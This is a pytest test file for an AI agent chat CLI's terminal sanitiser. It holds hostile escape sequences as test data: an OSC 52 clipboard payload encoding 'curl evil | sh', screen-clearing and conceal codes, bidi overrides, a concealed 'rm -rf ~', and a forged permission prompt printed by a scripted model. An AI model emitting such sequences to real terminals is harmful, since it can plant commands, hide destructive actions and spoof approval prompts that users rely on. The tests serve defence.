"""Nothing a child or a model writes can drive the user's terminal (issue 36, item 5).

What `parley chat` prints passes one sanitiser (`parley.terminal_text`): printable text,
`\\n`, `\\t` and SGR colours and emphasis, nothing else; every block leaves the terminal's
attributes as it found them; the permission question starts on a fresh line after a reset,
marked by an attribute no output may set. Properties (any text, cut anywhere), the nastiest
cases as a table, and `parley chat` itself on a real pty.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import server_env
from hypothesis import given, settings
from hypothesis import strategies as st
from parley.chat_question import QUESTION_MARK, permission_question
from parley.chat_view import TerminalView
from parley.config import SandboxSettings
from parley.fakellm import FakeLLM, Reply, ScriptedToolCall
from parley.sandbox import sandbox_status
from parley.terminal_text import TerminalStream, terminal_text
from test_cli import QUESTION_END, _take_terminal, read_until

_here = sandbox_status(SandboxSettings())
needs_sandbox = pytest.mark.skipif(
    not _here.sandboxed, reason=f"commands cannot run sandboxed here: {_here.reason}"
)

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: sets the clipboard
QUESTION_BADGE = "\x1b[1;7m ? \x1b[0m "  # reverse video: no output may set it
FAKE_QUESTION = "Parley asks to run `ls`:\nAllow it? [y] once  [n/Enter] no: "


# What may reach the terminal, written out here again as the spec (not imported).
ALLOWED_CODES = {"0", "1", "2", "3", "4", "22", "23", "24", "39"} | {
    str(code) for code in [*range(30, 38), *range(90, 98)]
}
SGR_SENT = re.compile(r"\x1b\[([0-9;]*)m")
# C0 but tab and newline (ESC among them), DEL, C1, lone surrogates, bidi controls.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)


def sgr_codes(parameters: str) -> list[str] | None:
    """The groups of an SGR sent (`38;5;N` one group), None when one is not allowed."""
    codes, groups = parameters.split(";"), []
    while codes:
        code = codes.pop(0)
        if code == "38" and codes and codes[0] in ("5", "2"):
            count = 2 if codes[0] == "5" else 4
            numbers = codes[:count]
            if len(numbers) < count or not all(n.isdigit() and int(n) < 256 for n in numbers):
                return None
            groups.append(";".join([code, *numbers]))
            del codes[:count]
        elif code in ALLOWED_CODES:
            groups.append(code)
        else:
            return None
    return groups


def assert_terminal_safe(shown: str) -> None:
    """Only printable text, newline, tab and allowed SGR."""
    for sgr in SGR_SENT.finditer(shown):
        assert sgr_codes(sgr.group(1)), repr(sgr.group())
    left = FORBIDDEN.search(SGR_SENT.sub("", shown))
    assert left is None, f"{left.group()!r} in {shown!r}"


def attributes_set(shown: str, already: bool = False) -> bool:
    """Whether attributes are set after `shown` (from `already`); fails at a line's end where
    they are: nothing crosses a line."""
    for token in re.finditer(r"\x1b\[([0-9;]*)m|\n", shown):
        if token.group() == "\n":
            assert not already, f"attributes set at a line's end in {shown!r}"
        else:
            groups = sgr_codes(token.group(1)) or []
            already = groups[-1:] != ["0"] if "0" in groups else already or bool(groups)
    return already


def visible(shown: str) -> str:
    return SGR_SENT.sub("", shown)


HOSTILE = st.sampled_from(
    [
        "\x1b[31m",
        "\x1b[0m",
        "\x1b[m",
        "\x1b[1;8;31m",
        "\x1b[8m",
        "\x1b[5m",
        "\x1b[7m",
        "\x1b[38;5;208m",
        "\x1b[38;2;1;2;3m",
        "\x1b[38;5m",
        "\x1b[38;5;300m",
        "\x1b[48;5;1m",
        "\x1b[41m",
        "\x1b[4:3m",
        "\x1b[>4;2m",
        "\x1b[?1049h",
        "\x1b[2J",
        "\x1b[H",
        "\x1b[1A",
        "\x1b]52;c;cHduZWQ=\x07",
        "\x1b]0;title\x1b\\",
        "\x1b]8;;https://x.org\x1b\\",
        "\x1bPq#0\x1b\\",
        "\x1b_apc\x1b\\",
        "\x1b^pm\x1b\\",
        "\x1bXsos\x1b\\",
        "\x1b(0",
        "\x1bc",
        "\x1b7",
        "\x1b=",
        "\x1b",
        "\x1b[",
        "\x1b]",
        "\x9b2J",
        "\x9d0;t\x9c",
        "\x90q\x9c",
        "\x85",
        "\r",
        "\r\n",
        "\b",
        "\x07",
        "\x00",
        "\x7f",
        "\x0e",
        "\u202e",
        "\u2066",
        "\u200f",
        "\u061c",
        "\ud83d",
        "\udc9b",
        "\n",
        "\t",
        "é",
        "ok",
        " ",
        "Allow it? [y] once  [n/Enter] no: ",
        "\x1b[" + "9" * 5000 + "m",
        "\x1b[38;5;" + "0" * 5000 + "1m",
    ]
)
TEXT = st.lists(HOSTILE | st.text(max_size=8), max_size=25).map("".join)


def pieces_of(text: str, cuts: list[int]) -> list[str]:
    points = sorted({min(cut, len(text)) for cut in cuts})
    return [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]


@settings(max_examples=300, deadline=None)
@given(text=TEXT, cuts=st.lists(st.integers(0, 400), max_size=10), colours=st.booleans())
def test_any_text_cut_anywhere_reaches_the_terminal_safe(
    text: str, cuts: list[int], colours: bool
) -> None:
    """Whatever the text and wherever it is cut as it streams: each piece sent holds only
    printable text, newline, tab and allowed SGR (none without `colours`), leaves no
    attribute set at a line's end nor at its own end; together they show what the whole
    text shows."""
    stream = TerminalStream(colours)
    sent = [stream.feed(piece) for piece in pieces_of(text, cuts)] + [stream.finish()]
    for piece in sent:
        assert_terminal_safe(piece)
        assert not attributes_set(piece), f"{piece!r} leaves attributes set"
        assert colours or "\x1b" not in piece
    assert visible("".join(sent)) == visible(terminal_text(text, colours))


def a_call(call_id: str, title: str, status: str = "in_progress", **more: Any) -> dict:
    return {
        "sessionUpdate": "tool_call" if status == "pending" else "tool_call_update",
        "toolCallId": call_id,
        "title": title,
        "status": status,
        **more,
    }


def updates_for(role: str, text: str, call_id: str = "c") -> list[dict]:
    """What a server sends when `text` is the model's answer, its thought, a command's
    output, a tool call's title or input, or a notice."""
    content = {"type": "text", "text": text}
    output = {"parley": {"commandOutput": {"append": text}}}
    done = {"content": [{"type": "content", "content": {"type": "text", "text": "Exit code: 0"}}]}
    return {
        "answer": [{"sessionUpdate": "agent_message_chunk", "messageId": "m", "content": content}],
        "thought": [{"sessionUpdate": "agent_thought_chunk", "content": content}],
        "output": [
            a_call(call_id, "Run `make`", rawInput={"command": "make"}),
            a_call(call_id, "Run `make`", _meta=output),
            a_call(call_id, "Run `make`", "completed", **done),
        ],
        "title": [
            a_call(call_id, text, rawInput={"command": text}),
            a_call(call_id, text, "failed"),
        ],
        "notice": [
            {
                "sessionUpdate": "agent_message_chunk",
                "content": content,
                "_meta": {"parley": {"notice": {"level": "warning"}}},
            }
        ],
    }[role]


class Recorded(io.StringIO):
    """A stream that keeps each write apart."""

    def __init__(self) -> None:
        super().__init__()
        self.writes: list[str] = []

    def write(self, text: str) -> int:
        self.writes.append(text)
        return super().write(text)


def shown_by_view(events: list[tuple[str, str]]) -> tuple[Recorded, Recorded]:
    """stdout and stderr of a view on a colour terminal shown `events` (role, text)."""
    out, err = Recorded(), Recorded()
    view = TerminalView(out, err, as_json=False)
    view.colour = True
    for index, (role, text) in enumerate(events):
        for update in updates_for(role, text, call_id=f"call-{index}"):
            view.show("s", update)
    view.finish()
    return out, err


ROLES = st.sampled_from(["answer", "thought", "output", "title", "notice"])


@settings(max_examples=150, deadline=None)
@given(events=st.lists(st.tuples(ROLES, TEXT), max_size=8))
def test_whatever_a_turn_holds_the_view_writes_only_safe_blocks(
    events: list[tuple[str, str]],
) -> None:
    """Answer, thoughts, command output, titles, inputs, notices, anything in them: every
    write to stdout or stderr is safe and leaves no attribute set; the model's text on
    stdout has no escape at all; on stderr no line a model or a child wrote starts outside
    the gutter with a fake question."""
    out, err = shown_by_view(events)
    for stream in (out, err):
        for write in stream.writes:
            assert_terminal_safe(write)
            assert not attributes_set(write), f"{write!r} leaves attributes set"
    assert "\x1b" not in out.getvalue()
    for line in err.getvalue().split("\n"):
        assert not line.startswith("Allow it?"), err.getvalue()


@settings(max_examples=150, deadline=None)
@given(title=TEXT, command=TEXT, prefix=TEXT, added=TEXT, path=TEXT)
def test_the_question_quotes_anything_safely_and_only_it_is_marked(
    title: str, command: str, prefix: str, added: str, path: str
) -> None:
    params = {
        "toolCall": {
            "toolCallId": "c",
            "title": title,
            "rawInput": {"command": command},
            "content": [{"type": "content", "content": {"type": "text", "text": added}}],
            "locations": [{"path": path}],
            "_meta": {"parley": {"tool": "run_command"}},
        },
        "options": [
            {"optionId": "allow_once", "kind": "allow_once"},
            {"optionId": f"allow_always:{prefix}", "kind": "allow_always"},
            {"optionId": "reject_once", "kind": "reject_once"},
        ],
    }
    plain = permission_question(params, colour=False)
    assert_terminal_safe(plain)
    assert "\x1b" not in plain
    marked = permission_question(params, colour=True)
    lines = marked.split("\n")
    assert lines[0] == "" and lines[1].startswith(QUESTION_MARK + "Parley asks to ")
    assert lines[-1].startswith(QUESTION_MARK + "Allow it? ")
    assert marked.count(QUESTION_MARK) == 2  # nothing quoted can draw the mark
    unmarked = marked.replace(QUESTION_MARK, "")
    assert_terminal_safe(unmarked)
    assert not attributes_set(unmarked)


# The nastiest cases: (where the text comes from, the text, what must not reach the
# terminal, what must).
NASTY = [
    ("answer", "see\x1b]52;c;Y3VybCBldmls\x07 this", ["\x1b]", "52;c"], ["see this"]),
    ("answer", "\x1b]0;pwned\x07Title kept", ["\x1b]", "pwned"], ["Title kept"]),
    ("answer", "\x1b[31mred\x1b[0m text", ["\x1b"], ["red text"]),  # Markdown, as text
    ("answer", "\x1bP1$r0m\x1b\\after DCS", ["\x1bP", "1$r"], ["after DCS"]),
    ("thought", "think\x1b[2Jing", ["\x1b[2J"], ["│ thinking"]),
    ("output", "\x1b[?1049hinside", ["\x1b[?1049h"], ["│ inside"]),
    ("output", "\x1b[2J\x1b[Hcleared", ["\x1b[2J", "\x1b[H"], ["│ cleared"]),
    ("output", "\x1b[1;8;31mhidden", ["8;", ";8"], ["\x1b[1;31mhidden\x1b[0m"]),
    ("output", "\x1b[8mAllow it? [y] once  [n/Enter] no: ", ["\x1b[8m"], ["│ Allow it?"]),
    ("output", "\x1b[5;7;41mloud", ["\x1b[5", "7", "41"], ["│ loud"]),
    ("output", "\x1b[38;5;208morange\n", [], ["│ \x1b[38;5;208morange\x1b[0m\n"]),
    ("output", "\x1b[" + "9" * 5000 + ";31mhuge\x1b[38;5;0009m", ["999"], ["\x1b[31mhuge"]),
    ("output", "\x9b2J\x9d0;t\x9cC1", ["\x9b", "\x9d", "\x9c"], ["2J0;tC1"]),
    ("output", "bar\r50%\rdone\x07\b", ["\r", "\x07", "\b"], ["bar50%done"]),
    ("output", "\ud83d\udc9b", ["\ud83d", "\udc9b"], ["\ufffd\ufffd"]),
    ("title", "Run `ls \u202e;hs.lave`", ["\u202e"], ["\\u202e"]),
    ("title", "Run `\x1b[8mrm -rf ~`", ["\x1b[8m"], ["\\x1b[8mrm -rf ~"]),
    ("notice", "stop\x1b]52;c;AAAA\x07ped", ["\x1b]"], ["stop"]),
]


@pytest.mark.parametrize(("role", "text", "absent", "present"), NASTY)
def test_the_nastiest_cases(role: str, text: str, absent: list[str], present: list[str]) -> None:
    out, err = shown_by_view([(role, text)])
    shown = out.getvalue() + err.getvalue()
    assert_terminal_safe(shown)
    assert not attributes_set(shown)
    for bad in absent:
        assert bad not in shown, repr(shown)
    for good in present:
        assert good in shown, repr(shown)


def test_a_commands_output_is_in_the_gutter_however_it_comes() -> None:
    """Lines cut across pieces continue in the gutter; a line left open that something else
    wrote after (here the answer, on the same terminal) is not continued: a new gutter line."""
    out, err = Recorded(), Recorded()
    view = TerminalView(out, err, as_json=False)
    output = {"parley": {"commandOutput": {"append": ""}}}
    view.show("s", a_call("c", "Run `make`", rawInput={"command": "make"}))
    for piece in ["Allow", " it?\nsecond", " line", "\n", "third"]:
        output["parley"]["commandOutput"]["append"] = piece
        view.show("s", a_call("c", "Run `make`", _meta=output))
    answer = {"type": "text", "text": "Hi"}
    view.show("s", {"sessionUpdate": "agent_message_chunk", "messageId": "m", "content": answer})
    output["parley"]["commandOutput"]["append"] = "fourth\n"
    view.show("s", a_call("c", "Run `make`", _meta=output))
    assert "│ Allow it?\n│ second line\n│ third\n│ fourth\n" in err.getvalue()
    assert out.getvalue() == "Hi"


def test_a_bidi_override_in_a_command_is_shown_escaped_in_its_question() -> None:
    params = {
        "toolCall": {"title": "Run `ls \u202e;hs.lave`", "rawInput": {"command": "ls \u2066x"}},
        "options": [{"optionId": "allow_once", "kind": "allow_once"}],
    }
    question = permission_question(params, colour=True)
    assert "\u202e" not in question and "Run `ls \\u202e;hs.lave`" not in question
    assert "ls \\u202e;hs.lave" in question and "ls \\u2066x" in question


# --- parley chat on a real terminal ----------------------------------------------------------


def chat_on_pty(slave: int, env: dict[str, str], workspace: Path) -> subprocess.Popen[bytes]:
    """`parley chat` with the pty as its controlling terminal, stdin, stdout and stderr (a
    user's shell), colours on (no NO_COLOR)."""
    environment = {**os.environ, **env, "TERM": "xterm-256color"}
    environment.pop("NO_COLOR", None)
    return subprocess.Popen(
        [sys.executable, "-m", "parley", "chat", "Tidy up.", "--cwd", str(workspace)],
        env=environment,
        stdin=slave,
        stdout=slave,
        stderr=slave,
        start_new_session=True,
        preexec_fn=lambda: _take_terminal(slave),
        pass_fds=(slave,),
    )


def run_on_pty(args: list[str], env: dict[str, str], workspace: Path) -> str:
    """What `parley ARGS` shows on a terminal (stdout and stderr a pty)."""
    master, slave = os.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "parley", *args],
            env={**os.environ, **env},
            cwd=workspace,
            stdin=subprocess.DEVNULL,
            stdout=slave,
            stderr=slave,
            timeout=60,
        )
        os.close(slave)
        slave = -1
        shown = b""
        while chunk := read_until(master, b"\0", timeout=2):  # until the pty is drained
            shown += chunk
    finally:
        if slave != -1:
            os.close(slave)
        os.close(master)
    assert done.returncode == 0, shown
    return shown.decode(errors="replace")


@needs_sandbox
def test_on_a_real_terminal_neither_the_model_nor_a_command_drives_it(
    fake: FakeLLM, tmp_path: Path, workspace: Path
) -> None:
    """The model's text carries an OSC 52 (a clipboard write); the command it runs turns on
    conceal (SGR 8) and prints a fake question. The pty gets neither the OSC nor the
    conceal; the fake question is in the output's gutter; the real question after it comes
    after a reset, marked, and visible."""
    # Every character as an octal escape: the question about the printf shows no fake.
    fake_output = "".join(f"\\{ord(ch):03o}" for ch in f"\x1b[8m\n{FAKE_QUESTION}")
    printf = ScriptedToolCall("run_command", {"command": f"printf '{fake_output}'"})
    fake.set_script(
        [
            Reply(text=f"Copying {CLIPBOARD}now.", tool_calls=(printf,)),
            Reply(tool_calls=(ScriptedToolCall("run_command", {"command": "echo REAL"}),)),
            Reply(text="Left it."),
        ]
    )
    master, slave = os.openpty()
    try:
        chat = chat_on_pty(slave, server_env(fake, tmp_path / "home"), workspace)
        first = read_until(master, QUESTION_END)
        os.write(master, b"y")  # run the printf
        second = read_until(master, b"`echo REAL`")
        second += read_until(master, QUESTION_END) if QUESTION_END not in second else b""
        os.write(master, b"n")  # the real question, answered no
        chat.wait(timeout=60)
        rest = read_until(master, b"session", timeout=5)
    finally:
        if chat.poll() is None:
            chat.kill()
        os.close(slave)
        os.close(master)
    seen = (first + second + rest).decode(errors="replace")
    assert chat.returncode == 0, seen
    assert "\x1b]" not in seen and "52;c;" not in seen  # no OSC, not even its text
    assert "Copying now." in seen
    assert "\x1b[8m" not in seen and ";8m" not in seen and "\x1b[8;" not in seen
    real = seen.index("Parley asks to run `echo REAL`:")
    fake_at = seen.index("│ Parley asks to run `ls`:")  # the fake: in the output's gutter
    assert "\x1b[0m" in seen[fake_at:real]  # a reset between the fake and the real one
    line_start = seen.rindex("\n", 0, real) + 1
    assert seen[line_start:real] == QUESTION_BADGE  # at a line's start, behind its badge
    assert QUESTION_BADGE + "Allow it? [y] once" in seen[real:]
    assert "rejected" in json.dumps(fake.requests[-1].body)

    # The session kept, exported to the terminal: the model's OSC 52 does not reach it
    # either (to a file, the transcript is as it was stored).
    exported = run_on_pty(["export", "last"], server_env(fake, tmp_path / "home"), workspace)
    assert "Copying ]52" not in exported and "\x1b" not in exported
    assert "Copying " in exported
